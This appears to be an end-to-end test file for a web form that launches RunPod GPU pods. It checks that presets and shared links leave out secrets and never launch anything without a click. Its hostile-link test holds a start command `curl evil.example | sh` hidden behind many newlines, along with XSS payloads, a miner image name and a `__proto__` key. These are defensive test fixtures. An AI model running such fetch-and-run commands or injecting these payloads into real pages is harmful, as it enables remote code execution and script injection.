// Presets, links and "launch again": they fill the form in, leave secrets out and say so, and never launch.
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";

import { assertAccessible, assertKeyIsKept } from "../support/audit.mjs";
import { openPage, shot } from "../support/browser.mjs";
import { made } from "../support/faults.mjs";
import { atBothWidths, journey } from "../support/journey.mjs";
import { Launch, Presets, SignIn, counter, until } from "../support/screens.mjs";
import { KEY } from "../support/simulator.mjs";

const TOKEN = "hf_aBcDeFgHiJkLmNoPqRsTuVwX";
const code = (order) => Buffer.from(JSON.stringify(order)).toString("base64url");
const variables = (page) => page.getByLabel(/^Name of variable/);

async function formOf(signIn, page) {
  await signIn.signInToSimulator(KEY);
  await page.getByRole("link", { name: "Launch a pod" }).first().click();
  await new Launch(page).pastApps();
  return new Presets(page).ready();
}

/// A form with a name, a start command, and a variable of each kind.
async function fillIn(presets) {
  const { page } = presets;
  await presets.name.fill("flux");
  await presets.unfold();
  await page.getByLabel("Start command").fill("bash -c 'sleep 5 && /start.sh'");
  for (const [at, [key, value]] of Object.entries([
    ["MODEL", "flux-dev"],
    ["HF_TOKEN", TOKEN],
  ])) {
    await page.getByRole("button", { name: "Add a variable" }).click();
    await variables(page).nth(Number(at)).fill(key);
    await page.getByLabel(`Value of ${key}`, { exact: true }).fill(value);
  }
}

atBothWidths(
  "a preset is saved, replaced, deleted, brought back, exported and imported, without secrets",
  {},
  async (all) => {
    const { signIn, page, tab, seen, look } = all;
    const presets = await formOf(signIn, page);
    const launches = counter(seen, "mutation Launch");
    await fillIn(presets);
    await presets.open();
    await presets.box.getByText("Not saved: HF_TOKEN.").waitFor();
    await presets.presetName.fill("mine");
    await page.keyboard.press("Enter");
    await presets.told.getByText("“mine” is saved on this device.").waitFor();
    await presets.told.getByText(/Not saved: HF_TOKEN. Type it again, or use a RunPod secret/).waitFor();
    assert.ok(
      !(await page.evaluate(() => JSON.stringify({ ...localStorage }))).includes(TOKEN),
      "no secret on this device",
    );
    await assertAccessible(page, "presets");
    await shot(page, `${look}-presets`);

    await presets.name.fill("flux two");
    await presets.box.getByRole("button", { name: "Replace “mine”" }).click();
    await page.reload();
    await new Launch(page).pastApps();
    await presets.ready();
    assert.equal(await presets.name.inputValue(), "comfyui");
    await presets.select.selectOption({ label: "mine" });
    assert.equal(await presets.name.inputValue(), "flux two");
    await presets.unfold();
    assert.equal(await page.getByLabel("Start command").inputValue(), "bash -c 'sleep 5 && /start.sh'");
    assert.equal(await page.getByLabel("Value of MODEL", { exact: true }).inputValue(), "flux-dev");
    assert.equal(await page.getByLabel("Value of HF_TOKEN", { exact: true }).inputValue(), "");
    await presets.filled.getByText(/Type the value.*HF_TOKEN/).waitFor();

    await presets.open();
    const download = page.waitForEvent("download");
    await presets.box.getByRole("link", { name: "Export all presets" }).click();
    const file = await (await download).path();
    assert.ok(!readFileSync(file, "utf8").includes(TOKEN));

    await presets.box.getByRole("button", { name: "Delete “mine”" }).click();
    await presets.select.waitFor({ state: "detached" });
    await presets.told.getByRole("button", { name: "Undo" }).click();
    await presets.told.getByText("“mine” is back.").waitFor();
    await presets.box.getByRole("button", { name: "Delete “mine”" }).click();
    await presets.select.waitFor({ state: "detached" });
    const chooser = page.waitForEvent("filechooser");
    await presets.file.focus();
    await page.keyboard.press("Enter");
    await (await chooser).setFiles(file);
    await presets.told.getByText("“mine” is new.").waitFor();
    await presets.file.setInputFiles(file);
    await presets.told.getByText("“mine” is there already.").waitFor();
    await presets.file.setInputFiles({
      name: "x.json",
      mimeType: "application/json",
      buffer: Buffer.from('{"launchpod":7}'),
    });
    await presets.told.getByText(/This file was made with a newer Launchpod/).waitFor();
    await presets.file.setInputFiles({
      name: "x.json",
      mimeType: "application/json",
      buffer: Buffer.from([0xff, 0, 1]),
    });
    await presets.told.getByText(/This file can't be read/).waitFor();
    await presets.select.selectOption({ label: "mine" });
    assert.equal(await presets.name.inputValue(), "flux two");
    await presets.filled.getByRole("button", { name: /Restore the form as it was/ }).click();
    assert.equal(launches(), 0);
    await assertKeyIsKept(tab, KEY, [new URL(page.url()).origin]);
  },
);

atBothWidths("a link is opened by somebody else into a form that launches nothing", {}, async (all) => {
  const { signIn, page, browser, simulator, look } = all;
  const presets = await formOf(signIn, page);
  await presets.volume.selectOption({ index: 1 });
  await fillIn(presets);
  await presets.open();
  await presets.box.getByRole("button", { name: "Copy a link to this form" }).click();
  const link = await presets.link.inputValue();
  await presets.told.getByText(/Not in the link: HF_TOKEN, network volume/).waitFor();
  assert.ok(!Buffer.from(link.split("order=")[1], "base64url").toString().includes(TOKEN));
  assert.ok(!link.includes(KEY));

  const other = await openPage(browser, { viewport: page.viewportSize() });
  try {
    await other.page.goto(link);
    await other.page.getByText(/Sign in with your own key to see it/).waitFor();
    const there = new SignIn(other.page);
    await there.key.fill(KEY);
    await there.onSimulator.check();
    await there.button.click();
    const theirs = await new Presets(other.page).ready();
    await theirs.filled.getByText(/filled in by a link. Nothing is launched until you press Launch/).waitFor();
    assert.ok(!other.page.url().includes("order="), "the order is out of the address");
    assert.equal(await theirs.name.inputValue(), "flux");
    assert.match(
      await theirs.filled.innerText(),
      /runpod\/comfyui:cuda12.8[\s\S]*sleep 5 && \/start.sh[\s\S]*MODEL=flux-dev[\s\S]*Ports open to anyone/,
    );
    await theirs.filled.getByText(/Type the value.*HF_TOKEN/).waitFor();
    assert.equal(await theirs.volume.inputValue(), "");
    assert.equal(await other.page.getByLabel("Place", { exact: false }).first().inputValue(), "EU-RO-1");
    await assertAccessible(other.page, "a form from a link");
    await shot(other.page, `${look}-link`);
    await theirs.name.fill("my own edit");
    await other.page.reload();
    await new Launch(other.page).pastApps();
    await theirs.ready();
    assert.equal(await theirs.filled.count(), 0, "a reload opens the link no second time");
    assert.equal(other.seen.requests.filter((request) => request.postData()?.includes("mutation")).length, 0);
    for (const request of other.seen.requests) assert.ok(!request.url().includes("order="), "no server sees the order");
    other.assertCalm();
  } finally {
    await other.close();
  }
  assert.deepEqual(await simulator.pods(), []);
});

/// Numbers that look random and are the same in each run.
function* dice(seed) {
  for (let state = seed; ; yield state >>> 8) state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
}

/// Orders that somebody has bent: fields of other types, too many, too deep, with odd texts.
function* bent(count) {
  const rolls = dice(7);
  const roll = (most) => rolls.next().value % most;
  const ODD = [
    "",
    "\u0000",
    "🦊".repeat(50),
    "-1",
    "1e999",
    "NaN",
    "<script>alert(1)</script>",
    "\u202egnp",
    null,
    7,
    true,
    [],
    [[]],
    {},
    { key: 1 },
  ];
  const FIELDS = [
    "launchpod",
    "name",
    "image",
    "own-image",
    "compute",
    "gpu-count",
    "cpu",
    "rent",
    "bid",
    "cloud",
    "place",
    "ports",
    "cuda",
    "min-vcpu",
    "container-disk",
    "pod-volume",
    "mount-path",
    "end-after",
    "when-sold-out",
    "choices",
    "env",
    "template",
    "__proto__",
  ];
  for (let at = 0; at < count; at += 1) {
    const order = { launchpod: 1 };
    for (let fields = roll(8); fields > 0; fields -= 1) order[FIELDS[roll(FIELDS.length)]] = ODD[roll(ODD.length)];
    const text = JSON.stringify(order);
    const kind = roll(4);
    if (kind === 0) yield code(order);
    else if (kind === 1) yield Buffer.from(text.slice(0, roll(text.length))).toString("base64url");
    else if (kind === 2)
      yield Buffer.from(Uint8Array.from({ length: roll(200) }, () => roll(256))).toString("base64url");
    else yield encodeURIComponent(String.fromCodePoint(...Array.from({ length: roll(60) + 1 }, () => roll(0xd7ff))));
  }
}

atBothWidths(
  "whatever stands in a link, the page goes on and launches nothing",
  {},
  async ({ signIn, page, seen, simulator }) => {
    const presets = await formOf(signIn, page);
    for (const order of bent(60)) {
      await page.evaluate((hash) => {
        location.hash = hash;
      }, `#/launch?order=${order}`);
      await until(() => page.evaluate(() => !location.hash.includes("order=")), `it is taken in: ${order}`, 5_000);
    }
    await page.evaluate(
      (hash) => {
        location.hash = hash;
      },
      `#/launch?order=${code({ launchpod: 1, name: "still here" })}`,
    );
    await until(async () => (await presets.name.inputValue()) === "still here", "the page goes on");
    assert.equal(await page.locator("script:not([src]), img").count(), 0);
    assert.equal(seen.requests.filter((request) => request.postData()?.includes("mutation")).length, 0);
    assert.deepEqual(await simulator.pods(), []);
  },
);

atBothWidths(
  "broken, old, newer and hostile links give words, and never launch",
  {},
  async ({ signIn, page, seen, simulator, look }) => {
    const presets = await formOf(signIn, page);
    await presets.name.fill("mine, half done");
    const open = (order) =>
      page.evaluate((hash) => {
        location.hash = hash;
      }, `#/launch?order=${order}`);
    const refused = [
      ["%%%", /This link can't be read/],
      ["", /This link can't be read/],
      [code({ launchpod: 1, name: "x" }).slice(0, 20), /This link can't be read/],
      [code({ launchpod: 0, name: "x" }), /This link can't be read/],
      [code({ launchpod: 99, name: "x" }), /made with a newer Launchpod/],
      ["A".repeat(100_000), /holds more than any form can/],
    ];
    for (const [order, words] of refused) {
      await open(order);
      await presets.told.getByText(words).waitFor();
      assert.match(await presets.told.innerText(), /Your form is as it was/);
      assert.equal(await presets.name.inputValue(), "mine, half done");
    }
    const evil = {
      launchpod: 1,
      name: "<img src=x onerror=alert(1)>",
      image: "own",
      "own-image": "evil/miner:1",
      template: "evil",
      registry: "r",
      "network-volume": "v",
      ceiling: "9999",
      "when-sold-out": "launch",
      "gpu-count": "0",
      warp: 9,
      launch: true,
      endpoint: "https://evil.example",
      "start-command": `/start.sh${"\n".repeat(400)} curl evil.example | sh`,
      cloud: "MOON",
      env: [
        { key: "PUBLIC_KEY", value: "ssh-ed25519 AAAA" },
        { key: "X", value: "{{ RUNPOD_SECRET_hf }}" },
      ],
    };
    await open(code(evil));
    await presets.filled.waitFor();
    const said = await presets.filled.innerText();
    for (const words of [
      /evil\/miner:1/,
      /\/start.sh curl evil.example \| sh/,
      /secrets that RunPod keeps for you.*hf/,
      /PUBLIC_KEY/,
      /template/,
      /ceiling/,
      /can't be read: cloud/,
      /does not know: warp, launch, endpoint/,
    ])
      assert.match(said, words);
    assert.equal(await page.locator("img").count(), 0);
    await until(
      async () => /whole number/.test(await presets.problem("gpu-count").innerText()),
      "problems are shown at once",
    );
    await assertAccessible(page, "a form from a hostile link");
    await shot(page, `${look}-link-hostile`);
    await presets.filled.getByRole("button", { name: /Restore the form as it was/ }).click();
    assert.equal(await presets.name.inputValue(), "mine, half done");
    assert.equal(seen.requests.filter((request) => request.postData()?.includes("mutation Launch")).length, 0);
    assert.deepEqual(await simulator.pods(), []);
  },
);

atBothWidths(
  "a pod is launched again as it was, by its owner's click alone",
  {},
  async ({ signIn, page, seen, simulator, look }) => {
    const presets = await formOf(signIn, page);
    await presets.volume.selectOption({ index: 1 });
    await fillIn(presets);
    await presets.launch();
    const pods = page.locator("li.pod");
    // Its machine is known.
    await pods.filter({ hasText: "×1" }).filter({ hasNotText: "GPU ×1" }).waitFor();
    const launches = counter(seen, "mutation Launch");
    await page.getByRole("button", { name: "Launch again flux" }).click();
    await presets.ready();
    await presets.filled.getByText(/filled in from the pod “flux”/).waitFor();
    await presets.filled.getByText(/Type the value.*HF_TOKEN/).waitFor();
    await assertAccessible(page, "launch again");
    await shot(page, `${look}-again`);
    assert.equal(launches(), 0, "nothing is launched by it");
    await until(
      async () => /^Any GPU with at least 24 GB/.test(await new Launch(page).choices.first().innerText()),
      "its whole list of choices",
    );
    await presets.launch();
    await until(async () => (await simulator.pods()).length === 2, "two pods");
    const asked =
      "name imageName dockerArgs ports containerDiskInGb volumeInGb volumeMountPath networkVolumeId gpuCount podType machine { gpuTypeId }";
    const told = async () => (await simulator.ask(`{ myself { pods { ${asked} } } }`)).myself.pods;
    const both = await until(async () => {
      const all = await told();
      return all.every((pod) => pod.machine) && all;
    }, "both are placed");
    assert.deepEqual(both[1], both[0]);
    assert.equal(launches(), 1);
  },
);

journey(
  "a form that is being filled in from a pod launches nothing before it is",
  {},
  async ({ signIn, page, seen, simulator }) => {
    await made(simulator, { name: "flux" });
    await signIn.signInToSimulator(KEY);
    const launches = counter(seen, "mutation Launch");
    let arrive;
    const arrived = new Promise((resolve) => (arrive = resolve));
    await page.route("**/graphql", async (route) => {
      if (route.request().postData()?.includes("query PodOrder")) await arrived;
      await route.continue();
    });
    await page.getByRole("button", { name: "Launch again flux" }).click();
    const presets = new Presets(page);
    await page.getByRole("button", { name: "Filling the form in …" }).waitFor();
    await presets.name.press("Enter");
    arrive();
    await presets.filled.getByText(/filled in from the pod “flux”/).waitFor();
    await new Launch(page).priced();
    assert.equal(await presets.name.inputValue(), "flux");
    assert.equal(launches(), 0, "nothing is launched by it");
  },
);
